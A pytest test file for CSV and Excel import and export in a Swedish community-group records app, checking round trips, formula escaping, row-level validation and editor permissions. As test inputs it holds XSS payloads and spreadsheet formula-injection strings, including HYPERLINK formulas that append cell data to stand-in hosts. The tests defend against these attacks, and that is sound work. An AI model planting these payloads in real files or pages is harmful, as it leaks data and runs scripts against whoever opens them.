"""CSV and Excel export and import of activities and initiatives: round trips, formula
injection, script payloads kept verbatim, row-level problems, all or nothing, and
permissions checked row by row for the importing user."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from functools import cache
from pathlib import Path

import pytest
from openpyxl import load_workbook

from indicators.accounts.auth import hash_password
from indicators.accounts.gate import PermissionDenied
from indicators.core.errors import InputError
from indicators.groupwork import files as gio
from indicators.groupwork import service
from indicators.groupwork.files import escape_formula, unescape_formula
from indicators.groupwork.records import (
    Activity,
    ActivityKind,
    Initiative,
    InitiativeStatus,
    Role,
    User,
)
from indicators.groupwork.store import GroupworkStore
from indicators.storage.store import SaveResult, Store

TODAY = date(2025, 6, 1)
BOXES = {
    "storebro": (57.55, 57.65, 15.80, 15.90),
    "tuna": (57.55, 57.62, 16.05, 16.15),
    "sodra-vi": (57.70, 57.78, 15.75, 15.85),
}
XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
TRICKY = (
    "=1+1",
    "+46 492 76 90 00",
    "-5",
    "- punkt ett\n- punkt två",
    "@SUM(A1:A2)",
    '=HYPERLINK("https://example.org/?"&A1,"Klicka")',
    "\tindrag",
    "'citat'",
    "'=redan skyddad",
    "''",
    "'",
    "",
    "vanlig text",
    *XSS,
)


def area_contains(locality_id: str, lat: float, lon: float) -> bool:
    box = BOXES.get(locality_id)
    return box is not None and box[0] <= lat <= box[1] and box[2] <= lon <= box[3]


@cache
def _hash() -> str:
    return hash_password("tio tecken minst")


@pytest.fixture
def gw(store) -> GroupworkStore:
    return GroupworkStore(store)


@pytest.fixture
def known(store) -> set[str]:
    return {locality.id for locality in store.localities()}


@pytest.fixture
def admin(gw) -> User:
    return gw.save_user(User("staff", Role.ADMIN, _hash()), username="test")


@pytest.fixture
def editor(gw) -> User:
    return gw.save_user(User("anna", Role.EDITOR, _hash(), "storebro"), username="test")


def _import(gw, user, path: Path, known, **options):
    return gio.import_groupwork(gw, user, path, known_localities=known, area_contains=area_contains,
                                today=TODAY, **options)


def _fill(gw: GroupworkStore, admin: User, known: set[str]) -> tuple[list[Activity], list[Initiative]]:
    activities = [
        Activity("storebro", date(2025, 5, 18), ActivityKind.CLEANUP, "Städdag vid dammen", 14,
                 ("leva", "motas"), "Vi plockade skräp.\nSedan fika."),
        Activity("tuna", date(2024, 9, 1), ActivityKind.WALK, "Byvandring", None, (), ""),
    ]
    initiatives = [
        Initiative("sodra-vi", "Belysning längs cykelvägen vid Brunnsparken", InitiativeStatus.DONE,
                   "Hembygdsföreningen, idrottsföreningen och lokala företag.", ("kontakt", "leva"),
                   date(2019, 3, 1), date(2020, 11, 30), "Södra Vi utvecklingsgrupp",
                   "Vimmerby Energi och Miljö; gatukontoret", 100, 57.741234567, 15.801234567),
        Initiative("storebro", "Mötesplats i gamla skolan", InitiativeStatus.IDEA, areas=("motas",)),
    ]
    saved_a = [service.save_activity(gw, admin, a, known_localities=known, today=TODAY) for a in activities]
    saved_i = [service.save_initiative(gw, admin, i, known_localities=known, area_contains=area_contains)
               for i in initiatives]
    return saved_a, saved_i


def _content(record):
    return replace(record, id=None, version=0)


def _without_ids(path: Path) -> None:
    """Empty the id and version columns of an exported file, as for a copy into another database."""
    if path.suffix == ".xlsx":
        workbook = load_workbook(path)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows(min_row=2):
                row[0].value = row[1].value = None
        workbook.save(path)
        return
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(rows[0])
    writer.writerows(["", "", *row[2:]] for row in rows[1:])
    path.write_text(out.getvalue(), encoding="utf-8", newline="")


def _write(tmp_path: Path, name: str, *lines: str, bom: bool = False) -> Path:
    path = tmp_path / name
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + "".join(line + "\n" for line in lines).encode("utf-8"))
    return path


# ---------------------------------------------------------------- formula escaping


@pytest.mark.parametrize("text", TRICKY)
def test_formula_escaping_is_exactly_undone(text):
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("text", ["=1+1", "+46", "-5", "@SUM(A1)", "\tx", "\rx"])
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["vanlig text", "'citat'", "1+1", "57.74", "<script>alert(1)</script>", ""])
def test_other_cells_are_left_alone(text):
    assert escape_formula(text) == text


def test_no_exported_csv_cell_starts_like_a_formula(gw, admin, known):
    saved = service.save_activity(
        gw, admin,
        Activity("storebro", date(2025, 5, 1), ActivityKind.OTHER, '=HYPERLINK("https://x.example/?"&A1,"Klicka")',
                 3, (), "@SUM(1)\n=evil"),
        known_localities=known, today=TODAY)
    text = gio.csv_text(gio.ACTIVITIES, [saved])
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(gio.FORMULA_STARTS), cell
    assert rows[1][5] == "'" + saved.title


def test_excel_export_writes_formula_like_text_as_text(tmp_path, gw, admin, known):
    saved = service.save_activity(gw, admin, Activity("storebro", date(2025, 5, 1), ActivityKind.OTHER, "=1+1",
                                                      description="@SUM(1)"),
                                  known_localities=known, today=TODAY)
    path = tmp_path / "ut.xlsx"
    gio.write_workbook(path, [saved], None)
    sheet = load_workbook(path)["aktiviteter"]
    title, description = sheet["F2"], sheet["I2"]
    assert (title.value, title.data_type) == ("=1+1", "s")
    assert (description.value, description.data_type) == ("@SUM(1)", "s")


# ---------------------------------------------------------------- round trips


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_into_an_empty_database_gives_the_same_records(tmp_path, gw, admin, known, suffix):
    activities, initiatives = _fill(gw, admin, known)
    files = gio.export_groupwork(gw, tmp_path / f"grupper{suffix}")

    with Store.open(f"sqlite:///{tmp_path}/other.sqlite") as other_store:
        other = GroupworkStore(other_store)
        other_admin = other.save_user(User("staff", Role.ADMIN, _hash()), username="test")
        for path in files:
            _without_ids(path)  # ids from another database mean nothing here: the rows are new
            _import(other, other_admin, path, known)
        assert sorted(map(_content, other.activities()), key=str) == sorted(map(_content, activities), key=str)
        assert sorted(map(_content, other.initiatives()), key=str) == sorted(map(_content, initiatives), key=str)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_importing_an_export_again_changes_nothing(tmp_path, gw, admin, known, suffix):
    activities, initiatives = _fill(gw, admin, known)
    files = gio.export_groupwork(gw, tmp_path / f"grupper{suffix}")
    audit_before = len(gw.audit(10_000))
    reports = [_import(gw, admin, path, known) for path in files]
    total_a = sum((r.activities for r in reports), SaveResult())
    total_i = sum((r.initiatives for r in reports), SaveResult())
    assert total_a == SaveResult(unchanged=len(activities))
    assert total_i == SaveResult(unchanged=len(initiatives))
    assert set(gw.activities()) == set(activities)
    assert set(gw.initiatives()) == set(initiatives)  # versions included: nothing was rewritten
    assert len(gw.audit(10_000)) == audit_before + 2  # one "import" line per kind, saying it was tried


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("payload", [*XSS, "=1+1", "'=1+1", "- punkt\n- punkt"])
def test_user_text_round_trips_unchanged_through_storage_and_files(tmp_path, gw, admin, known, suffix, payload):
    """Script payloads are data: stored, exported and imported exactly as typed."""
    initiative = service.save_initiative(
        gw, admin,
        Initiative("storebro", payload.replace("\n", " "), InitiativeStatus.ONGOING, description=payload,
                   areas=("leva",), lead=payload.replace("\n", " "), partners=payload),
        known_localities=known, area_contains=area_contains)
    assert gw.initiative(initiative.id).description == payload
    [path] = gio.export_groupwork(gw, tmp_path / f"ut{suffix}", kinds=[gio.INITIATIVES])
    parsed = gio.read_groupwork(path.read_bytes(), path.name)
    [row] = parsed.rows
    assert _content(row.record) == _content(initiative)
    report = _import(gw, admin, path, known)
    assert report.initiatives == SaveResult(unchanged=1)
    assert gw.initiative(initiative.id) == initiative


def test_an_edited_export_changes_the_records(tmp_path, gw, admin, known):
    _activities, initiatives = _fill(gw, admin, known)
    [path] = gio.export_groupwork(gw, tmp_path / "ut.xlsx", kinds=[gio.INITIATIVES])
    workbook = load_workbook(path)
    sheet = workbook["initiativ"]
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[header.index("title")].value == "Mötesplats i gamla skolan":
            row[header.index("status")].value = "Planerad"
            row[header.index("progress")].value = 10
    workbook.save(path)
    report = _import(gw, admin, path, known)
    assert report.initiatives == SaveResult(changed=1, unchanged=1)
    changed = next(i for i in gw.initiatives() if i.title == "Mötesplats i gamla skolan")
    assert (changed.status, changed.progress, changed.version) == (InitiativeStatus.PLANNED, 10, 2)
    assert gw.audit(1)[0].username == "staff"


def test_a_workbook_may_hold_both_kinds_and_an_empty_sheet(tmp_path, gw, admin, known, write_xlsx):
    path = write_xlsx({
        "Blad1": [["locality_id", "date", "kind", "title"], ["tuna", date(2025, 4, 2), "Möte", "Årsmöte"]],
        "Tomt": [],
        "Initiativ 2025": [["locality_id", "title", "status", "areas"], ["tuna", "Ny badplats", "idé", "Trivas"]],
    }, name="både.xlsx")
    report = _import(gw, admin, path, known)
    assert report.activities == SaveResult(added=1)
    assert report.initiatives == SaveResult(added=1)
    assert gw.initiatives()[0].areas == ("trivas",)
    assert gw.activities()[0].kind is ActivityKind.MEETING


def test_swedish_excel_csv_with_semicolons_names_and_decimal_commas(tmp_path, gw, admin, known):
    path = _write(
        tmp_path, "initiativ.csv",
        "locality_id;title;status;areas;start;end;progress;lat;lon",
        "sodra-vi;Belysning;Pågående;Kontakt, Leva;2019-03-01;2020-11-30;100;57,74;15,80",
        bom=True,
    )
    report = _import(gw, admin, path, known)
    assert report.initiatives == SaveResult(added=1)
    [saved] = gw.initiatives()
    assert (saved.status, saved.areas, saved.lat, saved.lon) == (
        InitiativeStatus.ONGOING, ("kontakt", "leva"), 57.74, 15.80)


def test_a_hand_made_file_imported_twice_adds_nothing_the_second_time(tmp_path, gw, admin, known):
    path = _write(tmp_path, "a.csv", "locality_id,date,kind,title,participants",
                  "storebro,2025-05-01,walk,Vårvandring,20")
    assert _import(gw, admin, path, known).activities == SaveResult(added=1)
    assert _import(gw, admin, path, known).activities == SaveResult(unchanged=1)
    assert len(gw.activities()) == 1


# ---------------------------------------------------------------- refused files


def test_every_bad_row_is_reported_and_nothing_is_saved(tmp_path, gw, admin, known):
    path = _write(
        tmp_path, "dålig.csv",
        "locality_id,title,status,areas,start,end,progress,lat,lon,description",
        "sodra-vi,Bra rad,idea,leva,,,,,,",
        "sodra-vi,Omvända datum,ongoing,leva,2024-05-01,2024-04-30,,,,",
        "sodra-vi,Punkt i Tuna,ongoing,leva,,,,57.58,16.10,",
        "sodra-vi,Okänd status,finished,leva,,,,,,",
        "sodra-vi,För lång,idea,leva,,,,,," + "x" * 5001,
        "narnia,Okänd ort,idea,leva,,,,,,",
        "sodra-vi,Trasigt datum,idea,leva,första maj,,,,,",
        "sodra-vi,För mycket,idea,leva,,,150,,,",
        "sodra-vi,Halv punkt,idea,leva,,,,57.74,,",
    )
    with pytest.raises(InputError) as caught:
        _import(gw, admin, path, known)
    located = [(p.file, p.row, p.field) for p in caught.value.problems]
    assert located == [
        ("dålig.csv", 3, "end"),
        ("dålig.csv", 4, "lat"),
        ("dålig.csv", 5, "status"),
        ("dålig.csv", 6, "description"),
        ("dålig.csv", 7, "locality_id"),
        ("dålig.csv", 8, "start"),
        ("dålig.csv", 9, "progress"),
        ("dålig.csv", 10, "lon"),
    ]
    assert "ligger utanför ortens område" in caught.value.problems[1].message
    assert caught.value.report().startswith("8 fel hittades; inget har sparats:")
    assert gw.initiatives() == []


def test_problems_in_a_workbook_name_the_sheet(tmp_path, gw, admin, known, write_xlsx):
    path = write_xlsx({"aktiviteter": [["locality_id", "date", "kind", "title", "participants"],
                                       ["tuna", date(2025, 4, 2), "möte", "Årsmöte", -4]]}, name="a.xlsx")
    with pytest.raises(InputError) as caught:
        _import(gw, admin, path, known)
    [problem] = caught.value.problems
    assert (problem.file, problem.sheet, problem.row, problem.field) == ("a.xlsx", "aktiviteter", 2, "participants")
    assert str(problem).startswith("a.xlsx, blad ”aktiviteter”, rad 2, fält ”participants”")


def test_unknown_and_missing_columns_are_refused(tmp_path, gw, admin, known):
    path = _write(tmp_path, "a.csv", "locality_id,date,kind,titel", "tuna,2025-01-01,walk,x")
    with pytest.raises(InputError) as caught:
        _import(gw, admin, path, known)
    messages = [(p.field, p.message) for p in caught.value.problems]
    assert ("titel", "okänd kolumn (menade du ”title”?); tillåtna kolumner är locality_id, date, kind, title, "
                     "id, version, participants, areas, description") in messages
    assert ("title", "kolumnen saknas") in messages


def test_a_header_that_is_neither_kind_is_refused(tmp_path, gw, admin, known):
    path = _write(tmp_path, "a.csv", "indicator_id,locality_id,year,value,source", "population,tuna,2020,1,SCB")
    with pytest.raises(InputError) as caught:
        _import(gw, admin, path, known)
    assert "liknar varken aktiviteter" in caught.value.problems[0].message


def test_duplicate_rows_and_ids_are_refused(tmp_path, gw, admin, known):
    activities, _ = _fill(gw, admin, known)
    first = activities[0]
    path = _write(tmp_path, "a.csv", "id,locality_id,date,kind,title",
                  "," + "tuna,2025-01-01,walk,Vandring",
                  "," + "tuna,2025-01-01,walk,Vandring",
                  f"{first.id},storebro,2025-01-02,walk,A",
                  f"{first.id},storebro,2025-01-02,walk,B",
                  "999,storebro,2025-01-02,walk,C")
    with pytest.raises(InputError) as caught:
        _import(gw, admin, path, known)
    assert [(p.row, p.field) for p in caught.value.problems] == [(3, None), (5, "id"), (6, "id")]


def test_a_row_based_on_an_old_version_is_refused(tmp_path, gw, admin, known):
    _, initiatives = _fill(gw, admin, known)
    [path] = gio.export_groupwork(gw, tmp_path / "ut.csv", kinds=[gio.INITIATIVES])
    target = next(i for i in initiatives if i.locality_id == "storebro")
    service.save_initiative(gw, admin, replace(target, progress=50), known_localities=known,
                            area_contains=area_contains)  # someone edits it after the export
    text = path.read_text(encoding="utf-8-sig").replace("Mötesplats i gamla skolan", "Mötesplats i skolan")
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as caught:
        _import(gw, admin, path, known)
    [problem] = caught.value.problems
    assert problem.field == "version"
    assert "har ändrats sedan filen exporterades" in problem.message
    assert gw.initiative(target.id).title == "Mötesplats i gamla skolan"


def test_a_future_activity_date_is_refused(tmp_path, gw, admin, known):
    path = _write(tmp_path, "a.csv", "locality_id,date,kind,title", "tuna,2025-06-02,walk,Imorgon")
    with pytest.raises(InputError) as caught:
        _import(gw, admin, path, known)
    assert caught.value.problems[0].field == "date"


def test_json_and_empty_files_are_refused(tmp_path, gw, admin, known):
    with pytest.raises(InputError):
        _import(gw, admin, _write(tmp_path, "a.json", '{"values": []}'), known)
    with pytest.raises(InputError) as caught:
        _import(gw, admin, _write(tmp_path, "b.csv", "locality_id,date,kind,title"), known)
    assert "inga aktiviteter eller initiativ" in caught.value.problems[0].message


# ---------------------------------------------------------------- permissions, row by row


def test_an_editor_imports_only_their_own_locality(tmp_path, gw, editor, known):
    path = _write(tmp_path, "a.csv", "locality_id,date,kind,title",
                  "storebro,2025-05-01,walk,Egen", "tuna,2025-05-01,walk,Någon annans",
                  "storebro,2025-05-02,event,Egen igen")
    with pytest.raises(InputError) as caught:
        _import(gw, editor, path, known)
    [problem] = caught.value.problems
    assert (problem.row, problem.field) == (3, "locality_id")
    assert "din egen ort" in problem.message
    assert gw.activities() == []  # all or nothing: the editor's own rows were not saved either

    own = _write(tmp_path, "b.csv", "locality_id,date,kind,title", "storebro,2025-05-01,walk,Egen")
    assert _import(gw, editor, own, known).activities == SaveResult(added=1)
    assert gw.audit(1)[0].username == "anna"


def test_an_editor_cannot_take_over_a_record_by_its_id(tmp_path, gw, admin, editor, known):
    activities, _ = _fill(gw, admin, known)
    tunas = next(a for a in activities if a.locality_id == "tuna")
    forged = _write(tmp_path, "a.csv", "id,version,locality_id,date,kind,title",
                    f"{tunas.id},{tunas.version},storebro,2025-01-01,walk,Kapad")
    with pytest.raises(InputError) as caught:
        _import(gw, editor, forged, known)
    [problem] = caught.value.problems
    assert (problem.row, problem.field) == (2, "locality_id")
    assert gw.activity(tunas.id) == tunas


def test_an_editor_cannot_move_their_own_record_by_import(tmp_path, gw, admin, editor, known):
    activities, _ = _fill(gw, admin, known)
    own = next(a for a in activities if a.locality_id == "storebro")
    moved = _write(tmp_path, "a.csv", "id,locality_id,date,kind,title", f"{own.id},tuna,2025-01-01,walk,Flyttad")
    with pytest.raises(InputError):
        _import(gw, editor, moved, known)
    assert gw.activity(own.id) == own


@pytest.mark.parametrize("who", ["nobody", "deactivated"])
def test_nobody_and_deactivated_accounts_cannot_import(tmp_path, gw, editor, known, who):
    user = None if who == "nobody" else replace(editor, active=False)
    path = _write(tmp_path, "a.csv", "locality_id,date,kind,title", "storebro,2025-05-01,walk,Egen")
    with pytest.raises(PermissionDenied):
        _import(gw, user, path, known)
    assert gw.activities() == []


# ---------------------------------------------------------------- export shape


def test_export_columns_and_csv_file_names(tmp_path, gw, admin, known):
    _fill(gw, admin, known)
    files = gio.export_groupwork(gw, tmp_path / "grupper.csv")
    assert [f.name for f in files] == ["grupper-aktiviteter.csv", "grupper-initiativ.csv"]
    raw = files[1].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == list(gio.INITIATIVE_COLUMNS)
    brunnsparken = next(r for r in rows if r["locality_id"] == "sodra-vi")
    assert (brunnsparken["status"], brunnsparken["areas"], brunnsparken["start"], brunnsparken["lat"]) == (
        "done", "kontakt,leva", "2019-03-01", "57.741234567")
    only = gio.export_groupwork(gw, tmp_path / "bara.csv", kinds=[gio.ACTIVITIES], locality_ids=["tuna"])
    assert [f.name for f in only] == ["bara.csv"]
    assert len(only[0].read_text(encoding="utf-8-sig").splitlines()) == 2


def test_workbook_export_has_both_sheets_with_dates_as_dates(tmp_path, gw, admin, known):
    _fill(gw, admin, known)
    [path] = gio.export_groupwork(gw, tmp_path / "grupper.xlsx")
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["aktiviteter", "initiativ"]
    assert [c.value for c in workbook["aktiviteter"][1]] == list(gio.ACTIVITY_COLUMNS)
    assert workbook["aktiviteter"]["D2"].is_date
